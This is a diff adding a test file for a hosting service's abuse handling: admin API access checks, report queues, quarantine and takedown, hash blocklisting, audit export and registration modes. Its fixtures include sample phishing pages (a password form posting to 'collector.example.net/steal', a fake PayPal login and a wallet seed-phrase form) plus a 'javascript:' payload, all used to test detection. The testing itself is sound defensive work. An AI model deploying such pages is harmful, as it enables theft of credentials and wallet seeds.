@@ -1,0 +1,471 @@
+import { describe, it, before, after } from 'node:test'
+import assert from 'node:assert/strict'
+import crypto from 'node:crypto'
+import { request } from 'undici'
+import { ENGINES, REDIS_URL, needs, startServer, type Res, type TestServer } from '../support/server.js'
+import { HTML, HIGH_LIMITS, batchUpload, uploadFile } from '../support/hosting.js'
+import { imageForm, makeImage, svc } from '../support/images.js'
+import { expectError } from '../support/errors.js'
+
+const sha = (b: string | Buffer) => crypto.createHash('sha256').update(b).digest('hex')
+type User = Awaited<ReturnType<TestServer['user']>> & { cookie: string }
+
+/** A page that asks for a password and posts it to another site (the credential-harvesting rule). */
+const PHISH = `<!doctype html><html><head><title>Sign in</title></head><body>
+<form action="https://collector.example.net/steal" method="post">
+<input name="email" type="email"><input name="pw" type="password"><button>Sign in</button></form></body></html>`
+/** A login page naming a brand, posting to itself (the brand rule only). */
+const BRAND = `<!doctype html><html><head><title>PayPal - Log in to your account</title></head><body>
+<form method="post"><input name="u"><input name="p" type="password"></form></body></html>`
+const SEED = `<!doctype html><html><body><h1>Restore your wallet</h1><form action="//wallet-sync.example.org/r" method="post">
+<textarea name="seed_phrase" placeholder="Enter your 12-word recovery phrase"></textarea><button>Restore</button></form></body></html>`
+const BENIGN = HTML(
+  'my portfolio',
+  '<form action="https://formspree.example.com/f/abc" method="post"><input name="email"><textarea name="msg"></textarea></form>',
+)
+
+/** GET on a user's origin (plain HTTP on loopback, Host: {user}.localhost). */
+async function onSite(s: TestServer, username: string, path: string, method = 'GET', headers: Record<string, string> = {}) {
+  const r = await request(`${s.httpUrl}${path}`, { method: method as 'GET', headers: { host: `${username}.localhost`, ...headers } })
+  const text = await r.body.text()
+  const h = r.headers as Record<string, string | undefined>
+  return { status: r.statusCode, text, header: (n: string) => h[n.toLowerCase()] }
+}
+
+for (const engine of ENGINES) {
+  describe(`abuse handling and the admin API [${engine}]`, () => {
+    let s: TestServer
+    let admin: User
+    let alice: User
+    let bob: User
+    const adminCall = (method: string, p: string, json?: unknown) => s.request(method, p, { cookie: admin.cookie, ...(json === undefined ? {} : { json }) })
+    const report = (json: unknown, headers: Record<string, string> = {}) => s.post('/svc_api/abuse/reports', { json, headers })
+    const audit = async () => (await adminCall('GET', '/svc_api/admin/audit?limit=500')).json.data.entries as Array<Record<string, any>>
+
+    before(async () => {
+      s = await startServer({ engine, env: { RATE_LIMITS: HIGH_LIMITS } })
+      const mk = async (o: { admin?: boolean } = {}) => {
+        const u = await s.user(o)
+        return { ...u, cookie: await s.login(u.username, u.password) }
+      }
+      admin = await mk({ admin: true })
+      alice = await mk()
+      bob = await mk()
+    })
+    after(() => s.close())
+
+    it('refuses every admin route to a non-admin (403 / 1011) and to no session (401), changing nothing', async () => {
+      const routes: Array<[string, string, unknown?]> = [
+        ['GET', '/svc_api/admin/users'],
+        ['POST', `/svc_api/admin/users/${bob.username}`, { disabled: true }],
+        ['POST', '/svc_api/admin/invites', {}],
+        ['GET', `/svc_api/admin/content?user=${alice.username}`],
+        ['GET', '/svc_api/admin/settings'],
+        ['POST', '/svc_api/admin/settings', { registration: 'closed' }],
+        ['GET', '/svc_api/admin/audit'],
+        ['GET', '/svc_api/admin/audit?format=csv'],
+        ['GET', '/svc_api/admin/reports'],
+        ['POST', '/svc_api/admin/reports', { url: `${s.url}/${alice.username}/x.html`, category: 'spam' }],
+        ['GET', '/svc_api/admin/reports/abc'],
+        ['POST', '/svc_api/admin/reports/abc/quarantine'],
+        ['POST', '/svc_api/admin/reports/abc/restore'],
+        ['POST', '/svc_api/admin/reports/abc/takedown', {}],
+        ['POST', '/svc_api/admin/reports/abc/lift'],
+        ['POST', '/svc_api/admin/reports/abc/dismiss'],
+        ['GET', `/svc_api/admin/reports/abc/evidence/${'a'.repeat(64)}`],
+        ['GET', '/svc_api/admin/blocklist'],
+      ]
+      const before = (await audit()).length
+      for (const [method, p, json] of routes) {
+        expectError(await s.request(method, p, { cookie: alice.cookie, ...(json === undefined ? {} : { json }) }), 403, 1011)
+        const anon = await s.request(method, p, json === undefined ? {} : { json })
+        assert.equal(anon.status, 401, `${method} ${p}: ${anon.status}`)
+      }
+      assert.equal((await s.deps.users.byId(bob.id))?.disabled, false)
+      assert.equal((await audit()).length, before)
+    })
+
+    it('lists accounts with usage and quotas; sets VIP, limits, disables and enables, each in the audit log', async () => {
+      await uploadFile(s, { key: bob.key }, 'one.html', HTML('one'))
+      const list = await adminCall('GET', `/svc_api/admin/users?search=${bob.username}`)
+      assert.equal(list.status, 200, list.text)
+      const row = list.json.data.users.find((u: { username: string }) => u.username === bob.username)
+      assert.equal(row.usage.files, 1)
+      assert.equal(row.quotas.files, 100)
+      let r = await adminCall('POST', `/svc_api/admin/users/${bob.username}`, { tier: 'vip', limits: { files: 3 } })
+      assert.equal(r.status, 200, r.text)
+      assert.equal(r.json.data.tier, 'vip')
+      assert.deepEqual(r.json.data.limits, { files: 3 })
+      r = await adminCall('POST', `/svc_api/admin/users/${bob.username}`, { disabled: true })
+      assert.equal(r.json.data.disabled, true)
+      assert.equal((await s.get('/svc_api/me', { key: bob.key })).status, 403)
+      r = await adminCall('POST', `/svc_api/admin/users/${bob.username}`, { disabled: false, limits: { files: null } })
+      assert.equal(r.json.data.disabled, false)
+      assert.equal((await s.get('/svc_api/me', { key: bob.key })).status, 200)
+      // disabling ended bob's sessions
+      assert.equal((await s.get('/svc_api/me', { cookie: bob.cookie })).status, 401)
+      bob.cookie = await s.login(bob.username, bob.password)
+      // bad input: a clear error, nothing changed
+      expectError(await adminCall('POST', `/svc_api/admin/users/${bob.username}`, { limits: { nope: 1 } }), 400, 1106)
+      expectError(await adminCall('POST', '/svc_api/admin/users/nobody-here', { disabled: true }), 404, 1708)
+      expectError(await adminCall('POST', `/svc_api/admin/users/${admin.username}`, { disabled: true }), 400, 1106)
+      const log = await audit()
+      const mine = log.filter((e) => e.action === 'user.update' && e.target === bob.username)
+      assert.equal(mine.length, 3)
+      assert.deepEqual(mine[0].details, { disabled: false, limits: { files: null } })
+      for (const e of mine) {
+        assert.equal(e.actor, admin.username)
+        assert.equal(e.via, 'web')
+        assert.equal(e.ip, '127.0.0.1')
+        assert.equal(typeof e.user_agent, 'string')
+      }
+      assert.deepEqual(mine[mine.length - 1].details, { tier: 'vip', limits: { files: 3 } })
+    })
+
+    it('searches content by user, URL, name and hash', async () => {
+      const page = HTML('searchable')
+      await uploadFile(s, { key: bob.key }, 'findme.html', page)
+      const byHash = await adminCall('GET', `/svc_api/admin/content?hash=${sha(page)}`)
+      assert.equal(byHash.status, 200, byHash.text)
+      assert.deepEqual(
+        byHash.json.data.items.map((i: any) => [i.kind, i.username, i.name]),
+        [['file', bob.username, 'findme.html']],
+      )
+      const byUrl = await adminCall('GET', `/svc_api/admin/content?url=${encodeURIComponent(`http://${bob.username}.localhost:8080/findme.html`)}`)
+      assert.deepEqual(
+        byUrl.json.data.items.map((i: any) => i.name),
+        ['findme.html'],
+      )
+      const byName = await adminCall('GET', `/svc_api/admin/content?name=FINDME&user=${bob.username}`)
+      assert.equal(byName.json.data.items.length, 1)
+      const byUser = await adminCall('GET', `/svc_api/admin/content?user=${bob.username}`)
+      assert.ok(byUser.json.data.items.length >= 2)
+      expectError(await adminCall('GET', '/svc_api/admin/content'), 400, 1106)
+      expectError(await adminCall('GET', `/svc_api/admin/content?url=${encodeURIComponent(`${s.url}/${bob.username}/missing.html`)}`), 400, 1705)
+    })
+
+    it('checks settings, refuses a bad one without changing any, and serves security.txt from them', async () => {
+      expectError(await adminCall('POST', '/svc_api/admin/settings', { abuse_contact: 'abuse@example.org', registration: 'sometimes' }), 400, 1707)
+      expectError(await adminCall('POST', '/svc_api/admin/settings', { colour: 'blue' }), 400, 1707)
+      let txt = await s.get('/.well-known/security.txt')
+      assert.equal(txt.status, 200)
+      assert.doesNotMatch(txt.text, /abuse@example\.org/)
+      assert.match(txt.text, /^Contact: https:\/\/.+\/report$/m)
+      const r = await adminCall('POST', '/svc_api/admin/settings', { abuse_contact: 'abuse@example.org', security_contact: 'https://example.org/security' })
+      assert.equal(r.status, 200, r.text)
+      assert.equal(r.json.data.settings.abuse_contact, 'mailto:abuse@example.org')
+      txt = await s.get('/.well-known/security.txt')
+      assert.equal(txt.header('content-type'), 'text/plain; charset=utf-8')
+      assert.match(txt.text, /^Contact: https:\/\/example\.org\/security$/m)
+      assert.match(txt.text, /^Contact: mailto:abuse@example\.org$/m)
+      const expires = /^Expires: (.+)$/m.exec(txt.text)?.[1]
+      assert.ok(expires && Date.parse(expires) > Date.now() + 300 * 86400_000, 'Expires about a year ahead')
+      const log = (await audit()).filter((e) => e.action === 'settings.set')
+      assert.deepEqual(log.map((e) => e.target).sort(), ['abuse_contact', 'security_contact'])
+      // a user's origin sends security.txt and the report link to the service's own
+      const site = await onSite(s, alice.username, '/.well-known/security.txt')
+      assert.equal(site.status, 302)
+      assert.match(site.header('location')!, /^https:\/\/localhost:\d+\/\.well-known\/security\.txt$/)
+    })
+
+    it('refuses bad reports with a clear error and stores nothing', async () => {
+      const count = async () => (await adminCall('GET', '/svc_api/admin/reports')).json.data.total as number
+      const n = await count()
+      expectError(await report({ url: 'not a url', category: 'spam' }), 400, 1702)
+      expectError(await report({ url: 'javascript:alert(1)', category: 'spam' }), 400, 1702)
+      expectError(await report({ url: `${s.url}/x/y`, category: 'rude' }), 400, 1106)
+      expectError(await report({ category: 'spam' }), 400, 1106)
+      expectError(await report({ url: `${s.url}/x/y`, category: 'spam', details: 'a\u0000b' }), 400, 1702)
+      expectError(await s.post('/svc_api/abuse/reports', { body: '{', headers: { 'content-type': 'application/json' } }), 400, 1113)
+      assert.equal(await count(), n)
+    })
+
+    it('report -> queue -> quarantine (451 on the path form and the user origin) -> restore -> takedown -> re-upload refused by hash -> lift', async () => {
+      const page = HTML('totally legit bank', '<p>evidence</p>')
+      assert.equal((await uploadFile(s, { key: alice.key }, 'bank.html', page)).status, 200)
+      const pathForm = `/${alice.username}/bank.html`
+      assert.equal((await s.get(pathForm)).status, 200)
+      assert.equal((await onSite(s, alice.username, '/bank.html')).status, 200)
+
+      // the public report: no login
+      const rep = await report({
+        url: `http://${alice.username}.localhost:8080/bank.html`,
+        category: 'phishing',
+        details: 'asks for my bank password',
+        contact: 'me@example.com',
+      })
+      assert.equal(rep.status, 201, rep.text)
+      const id = rep.json.data.id as string
+      const queue = await adminCall('GET', '/svc_api/admin/reports?status=open')
+      const item = queue.json.data.reports.find((r: any) => r.id === id)
+      assert.equal(item.target, `site:${alice.username}/bank.html`)
+      assert.equal(item.category, 'phishing')
+      assert.equal(item.contact, 'me@example.com')
+
+      // quarantine: 451 everywhere, bytes kept as evidence, the owner's row kept
+      let r = await adminCall('POST', `/svc_api/admin/reports/${id}/quarantine`)
+      assert.equal(r.status, 200, r.text)
+      assert.equal(r.json.data.status, 'quarantined')
+      assert.deepEqual(
+        r.json.data.evidence.map((e: any) => [e.path, e.digest]),
+        [['bank.html', sha(page)]],
+      )
+      for (const method of ['GET', 'HEAD']) {
+        const p = await s.request(method, pathForm)
+        assert.equal(p.status, 451, `${method} path form`)
+        const o = await onSite(s, alice.username, '/bank.html', method)
+        assert.equal(o.status, 451, `${method} user origin`)
+        if (method === 'GET') {
+          assert.match(p.text, /held for review/)
+          assert.match(o.text, /held for review/)
+          // each notice's report link names the page it stands for
+          assert.match(p.text, new RegExp(`svc-report\\?url=https%3A%2F%2F127\\.0\\.0\\.1%3A\\d+%2F${alice.username}%2Fbank\\.html"`))
+          assert.match(o.text, new RegExp(`svc-report\\?url=http%3A%2F%2F${alice.username}\\.localhost%2Fbank\\.html"`))
+          assert.match(o.header('content-security-policy')!, /sandbox/)
+          assert.match(p.header('link')!, /<\/\.well-known\/svc-report>; rel="blocked-by"/)
+        }
+      }
+      // a browser navigating to the path form goes to the user's origin, which answers 451 too
+      const nav = await s.get(pathForm, { headers: { 'sec-fetch-dest': 'document' } })
+      assert.equal(nav.status, 302)
+      assert.equal((await onSite(s, alice.username, new URL(nav.header('location')!).pathname)).status, 451)
+      assert.ok(await s.deps.db.k.selectFrom('files').select('id').where('file_name', '=', 'bank.html').executeTakeFirst(), 'kept as evidence')
+      const ev = await s.request('GET', `/svc_api/admin/reports/${id}/evidence/${sha(page)}`, { cookie: admin.cookie })
+      assert.equal(ev.status, 200)
+      assert.equal(ev.text, page)
+      assert.match(ev.header('content-disposition')!, /^attachment/)
+      // other content of the same user is untouched
+      await uploadFile(s, { key: alice.key }, 'fine.html', HTML('fine'))
+      assert.equal((await s.get(`/${alice.username}/fine.html`)).status, 200)
+      expectError(await adminCall('POST', `/svc_api/admin/reports/${id}/quarantine`), 409, 1706)
+
+      // restore: served again
+      r = await adminCall('POST', `/svc_api/admin/reports/${id}/restore`)
+      assert.equal(r.json.data.status, 'restored')
+      assert.equal((await s.get(pathForm)).text, page)
+      assert.equal((await onSite(s, alice.username, '/bank.html')).status, 200)
+
+      // takedown: removed, still 451, the hash is blocked on every upload path, the account disabled
+      r = await adminCall('POST', `/svc_api/admin/reports/${id}/takedown`, { disable_account: true })
+      assert.equal(r.status, 200, r.text)
+      assert.equal(r.json.data.status, 'taken_down')
+      assert.equal((await s.get(pathForm)).status, 451)
+      assert.match((await s.get(pathForm)).text, /removed/)
+      assert.equal(await s.deps.db.k.selectFrom('files').select('id').where('file_name', '=', 'bank.html').executeTakeFirst(), undefined)
+      assert.equal((await s.deps.users.byId(alice.id))?.disabled, true)
+      assert.ok(await s.deps.blobs.exists(sha(page)), 'the evidence blob stays')
+      const block = await adminCall('GET', '/svc_api/admin/blocklist')
+      assert.ok(block.json.data.digests.some((d: any) => d.digest === sha(page)))
+
+      // bob uploads the same bytes: refused everywhere, nothing recorded
+      expectError(await uploadFile(s, { key: bob.key }, 'copy.html', page), 451, 'CONTENT_BLOCKED')
+      const batch = await batchUpload(s, { key: bob.key }, 'mirror', [{ filename: 'index.html', data: page }])
+      expectError(batch, 451, 1701)
+      await svc(s, 'grant', bob.username, 'hosted-data')
+      const data = await s.post('/api/hosted-data/files', { cookie: bob.cookie, json: { display_name: 'copy.txt', content: page, content_type: 'text/plain' } })
+      expectError(data, 451, 'plain')
+      assert.equal((await s.get(`/${bob.username}/copy.html`)).status, 404)
+      assert.equal(await s.deps.db.k.selectFrom('folders').select('id').where('name', '=', 'mirror').executeTakeFirst(), undefined)
+      // a different page still uploads
+      assert.equal((await uploadFile(s, { key: bob.key }, 'other.html', HTML('other'))).status, 200)
+
+      // lift: the hash may be uploaded again and the URL no longer answers 451
+      r = await adminCall('POST', `/svc_api/admin/reports/${id}/lift`)
+      assert.equal(r.json.data.status, 'lifted')
+      assert.equal((await uploadFile(s, { key: bob.key }, 'copy.html', page)).status, 200)
+      assert.equal((await s.get(pathForm)).status, 404)
+
+      const actions = (await audit()).filter((e) => e.target === `site:${alice.username}/bank.html`).map((e) => e.action)
+      assert.deepEqual(actions.reverse(), ['abuse.quarantine', 'abuse.restore', 'abuse.takedown', 'abuse.lift'])
+      await adminCall('POST', `/svc_api/admin/users/${alice.username}`, { disabled: false })
+    })
+
+    it('quarantines a folder project on both forms, an image link and a data link', async () => {
+      await batchUpload(s, { key: bob.key }, 'proj', [
+        { filename: 'index.html', data: HTML('proj') },
+        { filename: 'a/b.html', data: HTML('deep') },
+      ])
+      const pub = await s.post('/api/folders/proj/publish', { key: bob.key })
+      assert.equal(pub.status, 200, pub.text)
+      assert.equal((await s.get(`/${bob.username}/proj/a/b.html`)).status, 200)
+      let rep = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/${bob.username}/proj/`, category: 'malware' })
+      assert.equal(rep.status, 201, rep.text)
+      let q = await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)
+      assert.equal(q.json.data.evidence.length, 2)
+      assert.equal((await s.get(`/${bob.username}/proj/a/b.html`)).status, 451)
+      assert.equal((await s.get(`/${bob.username}/proj/`)).status, 451)
+      assert.equal((await onSite(s, bob.username, '/proj/a/b.html')).status, 451)
+      assert.equal((await s.get(`/${bob.username}/other.html`)).status, 200)
+
+      await svc(s, 'grant', bob.username, 'image-host')
+      const form = imageForm([{ name: 'x.png', data: await makeImage('png', { width: 8, height: 8, color: '#ff0000' }) }])
+      const up = await s.post('/api/image-host/upload', { cookie: bob.cookie, body: form.body, headers: { 'content-type': form.contentType } })
+      const token = up.json.images[0].public_token as string
+      assert.equal((await s.get(`/svc-img/pub/${token}`)).status, 200)
+      rep = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/svc-img/pub/${token}`, category: 'copyright' })
+      await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)
+      for (const p of [`/svc-img/pub/${token}`, `/image-host/pub/${token}`]) assert.equal((await s.get(p)).status, 451, p)
+
+      const d = await s.post('/api/hosted-data/files', { cookie: bob.cookie, json: { display_name: 'list.json', content: '{"a":1}' } })
+      const dtoken = d.json.file.public_token as string
+      assert.equal((await s.get(`/svc-data/pub/${dtoken}`)).status, 200)
+      rep = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/svc-data/pub/${dtoken}`, category: 'spam' })
+      q = await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)
+      assert.equal(q.status, 200, q.text)
+      for (const p of [`/svc-data/pub/${dtoken}`, `/hosted-data/pub/${dtoken}?v=1`]) assert.equal((await s.get(p)).status, 451, p)
+      await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/restore`)
+      assert.equal((await s.get(`/svc-data/pub/${dtoken}`)).text, '{"a":1}')
+    })
+
+    it('flags phishing-like pages at upload without blocking them; leaves ordinary pages alone', async () => {
+      const heuristic = async () =>
+        ((await adminCall('GET', '/svc_api/admin/reports?status=open&per_page=200')).json.data.reports as any[]).filter((r) => r.source === 'heuristic')
+      const before = (await heuristic()).length
+      assert.equal((await uploadFile(s, { key: bob.key }, 'benign.html', BENIGN)).status, 200)
+      assert.equal((await heuristic()).length, before)
+      const r = await uploadFile(s, { key: bob.key }, 'login.html', PHISH)
+      assert.equal(r.status, 200, 'never blocked')
+      assert.equal((await s.get(`/${bob.username}/login.html`)).status, 200, 'still served until reviewed')
+      let flagged = await heuristic()
+      const phish = flagged.find((x) => x.target === `site:${bob.username}/login.html`)
+      assert.ok(phish, 'flagged')
+      assert.equal(phish.category, 'phishing')
+      assert.match(phish.details, /password field with a form posting to another site \(collector\.example\.net\)/)
+      await uploadFile(s, { key: bob.key }, 'paypal.html', BRAND)
+      await batchUpload(s, { key: bob.key }, 'wallet', [{ filename: 'index.html', data: SEED }])
+      flagged = await heuristic()
+      assert.match(flagged.find((x) => x.target === `site:${bob.username}/paypal.html`)?.details ?? '', /login page naming paypal/)
+      assert.match(flagged.find((x) => x.target === `site:${bob.username}/wallet`)?.details ?? '', /seed-phrase field .*wallet-sync\.example\.org/)
+      // the same page again: no second open report
+      await uploadFile(s, { key: bob.key }, 'login.html', PHISH)
+      assert.equal((await heuristic()).length, flagged.length)
+    })
+
+    it('sends the report link of a user origin to the service report page with the page prefilled', async () => {
+      const r = await onSite(s, bob.username, '/.well-known/svc-report', 'GET', { referer: `http://${bob.username}.localhost/login.html` })
+      assert.equal(r.status, 302)
+      const to = new URL(r.header('location')!)
+      assert.equal(to.pathname, '/report')
+      assert.equal(to.searchParams.get('url'), `http://${bob.username}.localhost/login.html`)
+      const svcHost = await s.get('/.well-known/svc-report?url=https%3A%2F%2Fx.example%2Fa')
+      assert.equal(svcHost.status, 302)
+      assert.equal(svcHost.header('location'), '/report?url=https%3A%2F%2Fx.example%2Fa')
+    })
+
+    it('exports the audit log as JSON and CSV, CLI actions included', async () => {
+      await svc(s, 'user', 'set', bob.username, '--limit', 'files=7', '--password', 'a-new-password-123')
+      const json = await adminCall('GET', '/svc_api/admin/audit?format=json')
+      assert.equal(json.status, 200)
+      assert.match(json.header('content-disposition')!, /attachment; filename="svc-audit-\d{4}-\d{2}-\d{2}\.json"/)
+      const entries = JSON.parse(json.text) as any[]
+      const cli = entries.find((e) => e.action === 'cli.user.set')
+      assert.ok(cli, 'the CLI action is logged')
+      assert.equal(cli.via, 'cli')
+      assert.equal(cli.target, bob.username)
+      assert.ok(!JSON.stringify(cli).includes('a-new-password-123'), 'never a password')
+      assert.ok(entries.some((e) => e.action === 'abuse.takedown'))
+      const csv = await adminCall('GET', '/svc_api/admin/audit?format=csv')
+      assert.equal(csv.header('content-type'), 'text/csv; charset=utf-8')
+      const lines = csv.text
+        .replace(/^\ufeff/, '')
+        .trim()
+        .split('\r\n')
+      assert.equal(lines[0], 'id,at,actor,via,action,target,details,ip,user_agent')
+      assert.equal(lines.length, entries.length + 1)
+    })
+
+    it('rate-limits reports per address (429 / 1703)', async () => {
+      let last: Res | null = null
+      for (let i = 0; i < 25; i++) {
+        last = await report({ url: `${s.url}/nobody/page${i}.html`, category: 'spam' })
+        if (last.status === 429) break
+      }
+      expectError(last!, 429, 1703)
+      assert.ok(Number(last!.header('retry-after')) > 0)
+    })
+  })
+
+  describe(`registration modes [${engine}]`, () => {
+    let s: TestServer
+    let adminCookie: string
+    before(async () => {
+      s = await startServer({ engine })
+      const a = await s.user({ admin: true })
+      adminCookie = await s.login(a.username, a.password)
+    })
+    after(() => s.close())
+    const mode = (m: string) => s.post('/svc_api/admin/settings', { cookie: adminCookie, json: { registration: m } })
+    const signUp = (username: string, extra: Record<string, string> = {}) =>
+      s.post('/register', { form: { username, password: 'long-enough-pw', password2: 'long-enough-pw', ...extra } })
+
+    it('open: signs up and in; closed: 403 and no account', async () => {
+      let r = await signUp('openuser')
+      assert.equal(r.status, 303)
+      assert.match(r.header('set-cookie')!, /(^|, )session=/)
+      assert.equal((await mode('closed')).status, 200)
+      assert.equal((await s.get('/register')).status, 403)
+      r = await signUp('closeduser')
+      assert.equal(r.status, 403)
+      assert.equal(await s.deps.users.byName('closeduser'), undefined)
+    })
+
+    it('pending: the account waits, disabled, until an admin enables it', async () => {
+      await mode('pending')
+      const r = await signUp('waiting')
+      assert.equal(r.status, 202)
+      assert.match(r.text, /awaiting review|等待审核/)
+      assert.equal(r.header('set-cookie')?.includes('session='), false)
+      const login = await s.post('/login', { form: { username: 'waiting', password: 'long-enough-pw' }, headers: { accept: 'application/json' } })
+      expectError(login, 403, 1006)
+      const list = await s.get('/svc_api/admin/users?search=waiting', { cookie: adminCookie })
+      assert.equal(list.json.data.users[0].pending, true)
+      await s.post('/svc_api/admin/users/waiting', { cookie: adminCookie, json: { disabled: false } })
+      assert.equal((await s.get('/svc_api/admin/users?search=waiting', { cookie: adminCookie })).json.data.users[0].pending, false)
+      assert.equal((await s.post('/login', { form: { username: 'waiting', password: 'long-enough-pw' }, headers: { accept: 'application/json' } })).status, 200)
+    })
+
+    it('invite: a one-time code from an admin is needed', async () => {
+      await mode('invite')
+      const page = await s.get('/register')
+      assert.match(page.text, /name="invite"/)
+      let r = await signUp('invitee', { invite: 'INV-wrong' })
+      assert.equal(r.status, 400)
+      assert.equal(await s.deps.users.byName('invitee'), undefined)
+      const code = (await s.post('/svc_api/admin/invites', { cookie: adminCookie, json: {} })).json.data.code as string
+      assert.match(code, /^INV-/)
+      r = await signUp('invitee', { invite: code })
+      assert.equal(r.status, 303, r.text.slice(0, 200))
+      r = await signUp('invitee2', { invite: code })
+      assert.equal(r.status, 400, 'used once')
+      assert.equal(await s.deps.users.byName('invitee2'), undefined)
+    })
+  })
+
+  describe(`settings across instances (shared database, Redis bus) [${engine}]`, needs('redis'), () => {
+    it('a setting changed on one instance applies on the other at once', async () => {
+      const a = await startServer({ engine, keepData: true, env: { REDIS_URL, REDIS_PREFIX: `t${crypto.randomBytes(4).toString('hex')}:` } })
+      const b = await startServer({ engine, dataDir: a.dataDir, pgSchema: (a.env.DATABASE_URL ?? '').split('schema=')[1], env: { ...a.env } })
+      try {
+        const adm = await a.user({ admin: true })
+        const cookie = await a.login(adm.username, adm.password)
+        assert.equal((await b.get('/register')).status, 200, 'open by default, and now cached on b')
+        // proof that b answers from its cache: a change behind the service's back is not seen
+        await a.deps.db.k.insertInto('settings').values({ name: 'registration', value: 'closed', updated_at: 0, updated_by: 'test' }).execute()
+        assert.equal((await b.get('/register')).status, 200)
+        await a.deps.db.k.deleteFrom('settings').execute()
+        const delivered = () => new Promise<void>((resolve) => b.deps.bus.subscribe('settings', () => resolve()))
+        let got = delivered()
+        assert.equal((await a.post('/svc_api/admin/settings', { cookie, json: { registration: 'closed' } })).status, 200)
+        await got
+        assert.equal((await b.get('/register')).status, 403)
+        got = delivered()
+        await a.post('/svc_api/admin/settings', { cookie, json: { registration: 'open' } })
+        await got
+        assert.equal((await b.get('/register')).status, 200)
+      } finally {
+        await b.close()
+        await a.close()
+      }
+    })
+  })
+}
